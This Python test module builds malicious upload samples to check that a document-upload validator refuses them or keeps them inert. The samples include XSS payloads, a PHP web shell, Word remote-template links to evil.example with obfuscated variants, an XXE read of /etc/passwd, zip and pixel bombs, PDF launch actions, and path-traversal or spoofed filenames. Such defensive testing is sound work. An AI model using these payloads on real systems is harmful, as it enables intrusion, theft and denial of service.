"""For the fields that take a PDF, a picture or a Word file: what is refused, and what stays inert."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from intersessional.uploads import MAX_BYTES
from tests.people import SMALL_PDF

PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="https://evil.example/template.dotm" TargetMode="External"'
    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)
# The same, as a search for words does not find it.
_ADDRESS, _KIND = b"https://evil.example", b"/attachedTemplate"
HIDDEN_TEMPLATES = {
    "address in entities": TEMPLATE.replace(_ADDRESS, b"&#104;ttps://evil.example"),
    "kind in entities": TEMPLATE.replace(_KIND, b"/attached&#84;emplate"),
    "a long comment before": TEMPLATE.replace(b">", b"><!--" + b" " * 65536 + b"-->", 1),
    "two slashes": TEMPLATE.replace(b"https:", b""),
    "the other slashes": TEMPLATE.replace(b"https://", b"\\\\"),
    "a share as a file": TEMPLATE.replace(b"https://", b"file:///%5C%5C"),
    "as UTF-16": TEMPLATE.decode().encode("utf-16"),
    "a picture": TEMPLATE.replace(_KIND, b"/image"),
    "an object": TEMPLATE.replace(_KIND, b"/oleObject"),
    "a frame": TEMPLATE.replace(_KIND, b"/frame"),
    "another document": TEMPLATE.replace(_KIND, b"/subDocument"),
    "no XML": TEMPLATE[:-1],
    "an entity of its own": b'<!DOCTYPE r [<!ENTITY x "y">]>' + TEMPLATE,
}
ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<w:document>&x;</w:document>"
)


def pdf(catalogue: bytes, *objects: bytes) -> bytes:
    """Return a PDF with these words in its catalogue."""
    listed = [b"<</Type/Catalog" + catalogue + b">>", *objects]
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate(listed, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def picture(kind: str) -> bytes:
    """Return a small picture."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, kind)
    return out.getvalue()


def archive(entries: dict[str, bytes]) -> bytes:
    """Return a ZIP file with these entries, whatever their names."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries.items():
            file.writestr(name, content)
    return out.getvalue()


def document(more: dict[str, bytes] | None = None, text: bytes = b"<w:document/>") -> bytes:
    """Return a Word file with more entries than it needs."""
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": text} | (more or {}))


def claiming(content: bytes, size: int) -> bytes:
    """Return an archive whose list says that each entry unpacks to so much."""
    found, at = bytearray(content), -1
    while (at := found.find(b"PK\x01\x02", at + 1)) >= 0:
        found[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(found)


def many_pixels() -> bytes:
    """Return a PNG of a few bytes that unpacks to gigabytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    size = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size)
    return head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def refused() -> dict[str, tuple[str, bytes]]:
    """Return what no field takes: name of the file, and its bytes."""
    return {
        "page as PDF": ("note.pdf", PAGE),
        "page before a PDF": ("note.pdf", PAGE + SMALL_PDF),
        "SVG as PNG": ("emblem.png", SVG),
        "SVG": ("emblem.svg", SVG),
        "GIF": ("emblem.gif", b"GIF89a" + b"\0" * 40),
        "program": ("note.pdf", b"MZ" + b"\0" * 200),
        "program in two endings": ("note.pdf.exe", b"MZ" + b"\0" * 200),
        "script": ("note.php", b"<?php system($_GET['c']); ?>"),
        "text with markup": ("note.docx", b"{\\rtf1 {\\object}}"),
        "archive": ("note.docx", archive({"index.html": PAGE})),
        "macros": ("note.docx", document({"word/vbaProject.bin": b"x"})),
        "template from elsewhere": (
            "note.docx",
            document({"word/_rels/settings.xml.rels": TEMPLATE}),
        ),
        "template in other relations": (
            "note.docx",
            document({"word/_rels/s2.xml.rels": TEMPLATE}),
        ),
        **{
            f"template, {how}": ("note.docx", document({"word/_rels/settings.xml.rels": content}))
            for how, content in HIDDEN_TEMPLATES.items()
        },
        "very many relations": (
            "note.docx",
            document({f"word/_rels/{n}.xml.rels": b"<r/>" + b" " * 60_000 for n in range(18)}),
        ),
        "zip bomb": ("note.docx", claiming(document(), 150_000_000)),
        "very many entries": ("note.docx", document({f"word/{n}": b"" for n in range(2001)})),
        "old Word": ("note.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "many pixels": ("scan.png", many_pixels()),
        "cut PDF": ("note.pdf", SMALL_PDF[:-6]),
        "empty": ("note.pdf", b""),
        "one byte too many": ("note.pdf", SMALL_PDF + b" " * (MAX_BYTES + 1 - len(SMALL_PDF))),
    }


def inert() -> dict[str, tuple[str, bytes]]:
    """Return what is taken, since nothing here opens it; it must harm nobody where it goes out."""
    return {
        "JavaScript at opening": (
            "note.pdf",
            pdf(b"/OpenAction 2 0 R", b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        ),
        "program at opening": ("note.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
        "address at opening": ("note.pdf", pdf(b"/OpenAction<</S/URI/URI(https://evil.example)>>")),
        "file in a PDF": (
            "note.pdf",
            pdf(b"/Names<</EmbeddedFiles 2 0 R>>", b"<</Names[(a.exe)3 0 R]>>", b"<<>>"),
        ),
        "PDF with a password": (
            "note.pdf",
            SMALL_PDF.replace(b"<<>>\n%%EOF", b"<</Encrypt 1 0 R>>\n%%EOF"),
        ),
        "PDF that is a script too": ("note.pdf", b"/*%PDF-1.7\n*/alert(1)//" + SMALL_PDF[8:]),
        "PDF with a page in it": ("note.html", SMALL_PDF[:9] + PAGE + SMALL_PDF[9:]),
        "picture with a page behind": ("scan.jpg", picture("JPEG") + PAGE),
        "picture with a program behind": ("scan.png.php", picture("PNG") + b"<?php ?>"),
        "entity from outside": ("note.docx", document(text=ENTITY)),
        "template on a disk": (
            "note.docx",
            document(
                {
                    "word/_rels/settings.xml.rels": TEMPLATE.replace(
                        b"https://evil.example/", b"file:///C:\\Users\\Ines\\"
                    )
                }
            ),
        ),
        "link to a page": (
            "note.docx",
            document({"word/_rels/document.xml.rels": TEMPLATE.replace(_KIND, b"/hyperlink")}),
        ),
        "paths that climb": ("note.docx", document({"../../../../tmp/x": b"x", "/etc/x": b"x"})),
        "name that climbs": ("../../../../etc/passwd", SMALL_PDF),
        "name of Windows": ("C:\\Windows\\system32\\a.exe", SMALL_PDF),
        "name that turns round": ("invoice\u202efdp.exe", SMALL_PDF),
        "name with markup": ("<script>alert(1)</script>.pdf", SMALL_PDF),
        "name with a quotation mark": ('a"; filename="evil.exe', SMALL_PDF),
        "very long name": ("n" * 250 + ".pdf", SMALL_PDF),
        "name of a device": ("CON", SMALL_PDF),
    }
